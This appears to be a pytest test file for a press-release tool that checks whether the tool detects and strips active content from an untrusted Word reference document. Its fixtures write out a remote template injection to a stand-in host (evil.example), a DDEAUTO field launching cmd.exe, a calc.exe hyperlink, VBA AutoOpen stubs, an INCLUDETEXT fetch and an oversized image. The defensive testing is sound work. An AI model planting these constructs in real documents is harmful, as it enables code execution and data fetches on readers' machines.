"""A workspace's reference document is untrusted: published DOCX carry no external relationship but
links, and no macros, ActiveX, OLE objects, ribbon code or fields that fetch or run something.

``check`` names what it found (a warning at templates/reference.docx); ``build`` leaves it out.
"""

from __future__ import annotations

import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from helpers import run as _run

ROOT = Path(__file__).resolve().parents[2]
RELEASE = "unric-migrants-stigma-2014"
EVIL = "http://evil.example/macros.dotm"
RELS = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' \
       '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
FOOTER_EXTRA = (  # a DDEAUTO field split over two runs, and a link that opens a program
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:hyperlink r:id="rIdCalc"><w:r><w:t>help</w:t></w:r></w:hyperlink>')



def _edited_reference(target: Path, edits: dict[str, Callable[[str | None], str | bytes]]) -> None:
    """pressgen's own reference document, with each named part replaced by what its edit returns."""
    with zipfile.ZipFile(ROOT / "templates" / "reference.docx") as source, \
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        names = source.namelist()
        for name in names:
            data = source.read(name)
            out.writestr(name, edits.pop(name)(data.decode("utf-8")) if name in edits else data)
        for name, edit in edits.items():
            out.writestr(name, edit(None))


def _with_remote_template(text: str | None) -> str:
    assert text is not None
    return re.sub(r"(<w:settings [^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', text, count=1)


def _footer(text: str | None) -> str:
    assert text is not None and R_NS in text
    return text.replace("</w:p></w:ftr>", FOOTER_EXTRA + "</w:p></w:ftr>")


def _content_types(extra: str) -> Callable[[str | None], str]:
    return lambda text: (text or "").replace("</Types>", extra + "</Types>")


def _package_rels(text: str | None) -> str:
    assert text is not None
    return text.replace("</Relationships>", '<Relationship Id="rIdUI" Type="http://schemas.microsoft.com/office/'
                        '2006/relationships/ui/extensibility" Target="customUI/customUI.xml"/></Relationships>')


def _document_rels(text: str | None) -> str:
    assert text is not None
    return text.replace("</Relationships>", '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/'
                        '2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')


def _document_rels_with_footnotes(text: str | None) -> str:
    return _document_rels(text).replace("</Relationships>", '<Relationship Id="rIdFn" Type="http://schemas.'
                                        'openxmlformats.org/officeDocument/2006/relationships/footnotes" '
                                        'Target="footnotes.xml"/></Relationships>')


def _external_rels(docx: Path) -> list[tuple[str, str, str]]:
    """(rels part, type, target) of every external relationship in the package."""
    found = []
    with zipfile.ZipFile(docx) as package:
        for name in package.namelist():
            if name.endswith(".rels"):
                for attributes in re.findall(r"<Relationship ([^>]*)/?>", package.read(name).decode("utf-8")):
                    if 'TargetMode="External"' in attributes:
                        found.append((name, re.search(r'Type="([^"]+)"', attributes).group(1),  # type: ignore[union-attr]
                                      re.search(r'Target="([^"]+)"', attributes).group(1)))  # type: ignore[union-attr]
    return found


@pytest.fixture
def remote_template(workspace: Path) -> Path:
    (workspace / "templates").mkdir(exist_ok=True)
    _edited_reference(workspace / "templates" / "reference.docx", {
        "word/settings.xml": _with_remote_template,
        "word/_rels/settings.xml.rels": lambda _: RELS.format(
            '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'attachedTemplate" Target="{EVIL}" TargetMode="External"/>'),
        "word/footer1.xml": _footer,
        "word/_rels/footer1.xml.rels": lambda _: RELS.format(
            '<Relationship Id="rIdCalc" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>'),
    })
    return workspace


def test_check_names_the_remote_template_and_the_active_fields(
        remote_template: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(remote_template)
    assert _run("check", f"releases/{RELEASE}.yaml") == 0  # a warning: the build leaves them out
    err = capsys.readouterr().err
    assert "templates/reference.docx:1:1: warning: the reference document holds an external attachedTemplate " \
           f"relationship of word/settings.xml to {EVIL}; pressgen leaves it out of every DOCX it writes" in err
    assert "templates/reference.docx:1:1: warning: the reference document holds a DDEAUTO field in " \
           "word/footer1.xml" in err
    assert "external hyperlink relationship of word/footer1.xml to file:///C:/Windows/System32/calc.exe" in err
    assert _run("check", "--strict", f"releases/{RELEASE}.yaml") == 1


def test_published_docx_carry_no_external_relationship_but_links(
        remote_template: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(remote_template)
    assert _run("build", f"releases/{RELEASE}.yaml", "--format", "docx") == 0, capsys.readouterr().err
    documents = sorted((remote_template / "dist").rglob("*.docx"))
    assert len(documents) == 3
    for docx in documents:
        external = _external_rels(docx)
        assert external, "the release's own links (e-mail, website) are still there"
        for part, kind, target in external:
            assert kind.endswith("/hyperlink"), (docx.name, part, kind, target)
            assert target.startswith(("http:", "https:", "mailto:", "tel:")), (docx.name, part, target)
        with zipfile.ZipFile(docx) as package:
            everything = b"".join(package.read(name) for name in package.namelist())
            footers = "".join(package.read(name).decode() for name in package.namelist() if "footer" in name)
        assert b"evil.example" not in everything and b"attachedTemplate" not in everything
        assert b"calc.exe" not in everything and b"cmd.exe" not in everything
        assert "DDE" not in footers and "AUTO" not in footers
        footer = Document(str(docx)).sections[0].footer.paragraphs[0].text
        assert "help" in footer and "155, 1040 Bru" in footer  # its words stay; only what Word follows goes


def test_macros_and_ribbon_code_are_left_out(workspace: Path, monkeypatch: pytest.MonkeyPatch,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    (workspace / "templates").mkdir(exist_ok=True)
    _edited_reference(workspace / "templates" / "reference.docx", {
        "[Content_Types].xml": _content_types(
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/customUI/customUI.xml" ContentType="application/xml"/>'
            '<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.footnotes+xml"/>'),
        "_rels/.rels": _package_rels,
        "word/_rels/document.xml.rels": _document_rels_with_footnotes,
        "word/vbaProject.bin": lambda _: b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"AutoOpen\"",
        "customUI/customUI.xml": lambda _: '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
                                           'onLoad="AutoOpen"/>',
        # A part python-docx keeps as bytes, with a field that fetches a URL when Word updates it.
        "word/footnotes.xml": lambda _: f'<w:footnotes {W_NS}><w:footnote w:id="0"><w:p><w:fldSimple '
                                        'w:instr=" INCLUDETEXT &quot;http://evil.example/text&quot; "><w:r><w:t>x</w:t>'
                                        '</w:r></w:fldSimple></w:p></w:footnote></w:footnotes>',
    })
    monkeypatch.chdir(workspace)
    assert _run("check", f"releases/{RELEASE}.yaml") == 0
    err = capsys.readouterr().err
    assert "warning: the reference document holds the vbaProject part word/vbaProject.bin" in err
    assert "warning: the reference document holds the extensibility part customUI/customUI.xml" in err
    assert "warning: the reference document holds an INCLUDETEXT field in word/footnotes.xml" in err
    assert _run("build", f"releases/{RELEASE}.yaml", "--format", "docx", "--lang", "en") == 0
    docx = next((workspace / "dist").rglob("*.en.docx"))
    with zipfile.ZipFile(docx) as package:
        names = package.namelist()
        types = package.read("[Content_Types].xml").decode()
        rels = "".join(package.read(name).decode() for name in names if name.endswith(".rels"))
        footnotes = package.read("word/footnotes.xml").decode()
    assert not [name for name in names if "vba" in name.lower() or "customui" in name.lower()], names
    assert "vbaProject" not in types and "vbaProject" not in rels and "extensibility" not in rels
    assert "INCLUDETEXT" not in footnotes and "evil.example" not in footnotes and "<w:t>x</w:t>" in footnotes
    Document(str(docx))  # still a Word document python-docx (and Word) opens


def test_a_macro_enabled_reference_document_is_refused(workspace: Path, monkeypatch: pytest.MonkeyPatch,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    (workspace / "templates").mkdir(exist_ok=True)
    _edited_reference(workspace / "templates" / "reference.docx", {
        "[Content_Types].xml": lambda text: (text or "").replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml").replace(
            "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
        "word/_rels/document.xml.rels": _document_rels,
        "word/vbaProject.bin": lambda _: b"\xd0\xcf\x11\xe0 macros",
    })
    monkeypatch.chdir(workspace)
    assert _run("check", f"releases/{RELEASE}.yaml") == 1
    err = capsys.readouterr().err
    assert "templates/reference.docx:1:1: error: the reference document is a macro-enabled Word document (.docm)" \
        in err
    assert "internal error" not in err
    assert _run("build", f"releases/{RELEASE}.yaml") == 1
    assert "macro-enabled Word document (.docm)" in capsys.readouterr().err
    assert not list((workspace / "dist").rglob("*.docx")) if (workspace / "dist").exists() else True


def test_the_packaged_reference_document_has_nothing_to_leave_out(tmp_path: Path) -> None:
    from pressgen.writers.docx import strip_active_content

    shutil.copy(ROOT / "templates" / "reference.docx", tmp_path / "reference.docx")
    assert strip_active_content(Document(str(tmp_path / "reference.docx"))) == []


def test_a_reference_document_that_unpacks_beyond_the_bound_is_refused(
        workspace: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from pressgen.writers.docx import MAX_REFERENCE_INFLATED

    (workspace / "templates").mkdir(exist_ok=True)
    _edited_reference(workspace / "templates" / "reference.docx", {  # a picture of ~100 KiB packed
        "[Content_Types].xml": _content_types('<Default Extension="png" ContentType="image/png"/>'),
        "word/_rels/document.xml.rels": lambda text: (text or "").replace("</Relationships>", (
            '<Relationship Id="rIdBig" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'image" Target="media/big.png"/></Relationships>')),
        "word/media/big.png": lambda _: b"\x89PNG" + b"\0" * MAX_REFERENCE_INFLATED})
    assert (workspace / "templates" / "reference.docx").stat().st_size < 2**20
    monkeypatch.chdir(workspace)
    assert _run("check", f"releases/{RELEASE}.yaml") == 1
    assert f"templates/reference.docx:1:1: error: the reference document unpacks to 100 MiB; at most " \
           f"{MAX_REFERENCE_INFLATED // 2**20} MiB" in capsys.readouterr().err


def test_a_reference_document_with_a_part_of_no_content_type_is_not_said_to_lack_a_style(
        workspace: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    (workspace / "templates").mkdir(exist_ok=True)
    _edited_reference(workspace / "templates" / "reference.docx", {
        "word/_rels/document.xml.rels": lambda text: (text or "").replace("</Relationships>", (
            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'image" Target="media/x.qqq"/></Relationships>')),
        "word/media/x.qqq": lambda _: b"?"})
    monkeypatch.chdir(workspace)
    assert _run("check", f"releases/{RELEASE}.yaml") == 1
    err = capsys.readouterr().err
    assert "error: not a Word document pressgen can use: no content type for partname '/word/media/x.qqq'" in err
    assert "lacks the style" not in err
